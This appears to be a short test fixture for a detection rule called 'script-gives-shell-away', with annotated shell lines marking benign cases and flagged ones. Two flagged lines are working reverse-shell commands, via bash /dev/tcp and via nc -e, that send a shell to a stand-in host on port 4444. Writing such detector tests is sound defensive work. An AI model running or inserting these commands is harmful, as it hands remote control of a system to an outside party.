# ok: script-gives-shell-away
bash -i
# ok: script-gives-shell-away
nc -z db 5432
# ok: script-gives-shell-away
timeout 1 bash -c "echo > /dev/tcp/db/5432"
# ruleid: script-gives-shell-away
bash -i >& /dev/tcp/relay.example.org/4444 0>&1
# ruleid: script-gives-shell-away
nc -e /bin/sh relay.example.org 4444
